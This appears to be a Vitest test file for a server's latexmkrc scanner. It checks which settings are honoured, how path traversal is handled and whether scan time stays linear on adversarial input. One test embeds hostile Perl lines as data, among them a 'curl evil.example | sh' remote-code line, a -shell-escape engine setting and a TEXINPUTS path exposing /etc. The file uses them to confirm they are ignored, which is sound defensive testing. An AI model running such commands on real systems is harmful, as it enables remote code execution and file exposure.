// The latexmkrc scanner: what it takes from real files, what it reports as ignored, and that its
// cost stays linear on hostile input (it runs on the server's only thread).
import { describe, expect, it } from "vitest";
import { inProject, MAX_RC_BYTES, readLatexmkrc, statements } from "../src/latexmkrc.ts";
import { projectSettings } from "../src/project.ts";

describe("readLatexmkrc", () => {
  it("takes the common settings of real files", () => {
    const rc = readLatexmkrc(
      [
        "# Overleaf-style settings",
        "$pdf_mode = 4;  # lualatex",
        '@default_files = ("thesis.tex", "other.tex");',
        "ensure_path( 'TEXINPUTS', './tex//', 'cls' );",
        "$ENV{'BIBINPUTS'} = './bib:' . $ENV{'BIBINPUTS'};",
        "$makeindex = 'makeindex -s gind.ist %O -o %D %S';",
      ].join("\n"),
    );
    expect(rc.engine).toBe("lualatex");
    expect(rc.defaultFiles).toEqual(["thesis.tex", "other.tex"]);
    expect(rc.paths.TEXINPUTS).toEqual(["tex//", "cls"]);
    expect(rc.paths.BIBINPUTS).toEqual(["bib"]);
    expect(rc.makeindex).toEqual(["-s", "gind.ist", "%O", "-o", "%D", "%S"]);
    expect(rc.ignored).toEqual([]);
  });

  it("reports what it does not honour, and never treats code as settings", () => {
    const rc = readLatexmkrc(
      [
        "system('curl evil.example | sh');",
        "$pdf_mode = 2;",
        "$pdflatex = 'pdflatex -shell-escape %O %S';",
        "sub pre { unlink 'x'; $pdf_mode = 5; }",
        "add_cus_dep('glo', 'gls', 0, 'makeglo2gls');",
        "$ENV{'TEXINPUTS'} = '/etc//:~/texmf//:' . $ENV{HOME};",
        "$out_dir = 'build';",
      ].join("\n"),
    );
    // the sub's body is one statement: its $pdf_mode is not a setting
    expect(rc.engine).toBeUndefined();
    expect(rc.paths.TEXINPUTS).toEqual([]);
    const all = rc.ignored.join("\n");
    for (const x of ["system('curl", "$pdf_mode = 2", "-shell-escape", "sub pre", "add_cus_dep", "/etc//", "~/texmf//", "$out_dir"]) expect(all).toContain(x);
  });

  it("$pdflatex naming another engine selects it", () => {
    expect(readLatexmkrc("$pdflatex = 'xelatex %O %S';").engine).toBe("xelatex");
    expect(readLatexmkrc("$pdf_mode = 5; $xelatex = 'xelatex -interaction=nonstopmode %O %S';").engine).toBe("xelatex");
  });

  it("strings and comments do not split statements", () => {
    expect(statements("$a = 'x;y'; # c;d\n$b = \"p\\\";q\";")).toEqual(["$a = 'x;y'", '$b = "p\\";q"']);
  });

  it("is linear on hostile input, and reads at most MAX_RC_BYTES", () => {
    // the best of a few runs after a warm-up: a quadratic scan of 64 KiB would take seconds
    const time = (run: () => unknown) => {
      run();
      let best = Infinity;
      for (let i = 0; i < 3; i++) {
        const t = performance.now();
        run();
        best = Math.min(best, performance.now() - t);
      }
      return best;
    };
    const inputs = ["(".repeat(MAX_RC_BYTES), "'".repeat(MAX_RC_BYTES), ";".repeat(MAX_RC_BYTES), "ensure_path('TEXINPUTS', '" + "/a:".repeat(MAX_RC_BYTES / 3) + "');", "$ENV{TEXINPUTS}=" + "'a'.".repeat(MAX_RC_BYTES / 4)];
    for (const text of inputs) expect(time(() => readLatexmkrc(text)), text.slice(0, 30)).toBeLessThan(150);
    // a 10 MiB latexmkrc costs what 64 KiB cost: only its start is decoded and read
    const big = [{ path: "latexmkrc", data: Buffer.alloc(10 * 1024 * 1024, "(") }];
    expect(time(() => projectSettings({ files: big }, "main.tex"))).toBeLessThan(150);
    expect(projectSettings({ files: big }, "main.tex").project.ignored[0]).toContain("everything after the first");
  });
});

describe("project settings", () => {
  const file = (path: string, text: string) => ({ path, data: Buffer.from(text) });

  it("inProject keeps paths inside the project", () => {
    expect(inProject("a/b", "../../c/d")).toBe("c/d");
    expect(inProject("a", "../../c")).toBeUndefined();
    expect(inProject("", "x/./y")).toBe("x/y");
  });

  it("the main file's folder's latexmkrc comes before the root's; the request's own choices win", () => {
    const files = [file("latexmkrc", "$pdf_mode = 5;"), file("thesis/.latexmkrc", "$pdf_mode = 4; ensure_path('TEXINPUTS', '../styles//');")];
    const p = projectSettings({ files, mainPath: "thesis/thesis.tex" }, "main.tex");
    expect(p.engine).toBe("lualatex");
    expect(p.project.rc).toBe("thesis/.latexmkrc");
    expect(p.project.paths.TEXINPUTS).toEqual(["styles//"]);
    expect(projectSettings({ files, mainPath: "thesis/thesis.tex", engine: "pdflatex" }, "main.tex").engine).toBe("pdflatex");
  });

  it("@default_files names the main file only where nothing else is there", () => {
    const rc = (name: string) => file("latexmkrc", `@default_files = ('${name}');`);
    expect(projectSettings({ files: [rc("paper.tex")] }, "main.tex").mainPath).toBe("paper.tex");
    // a file of the request, a folder of one, a name TeX would write, a path out of the project: main.tex stays
    expect(projectSettings({ files: [rc("paper.tex"), file("paper.tex", "x")] }, "main.tex").mainPath).toBe("main.tex");
    expect(projectSettings({ files: [rc("a"), file("a/b.tex", "x")] }, "main.tex").mainPath).toBe("main.tex");
    expect(projectSettings({ files: [rc("paper.log")] }, "main.tex").mainPath).toBe("main.tex");
    expect(projectSettings({ files: [rc("../x.tex")] }, "main.tex").mainPath).toBe("main.tex");
  });
});
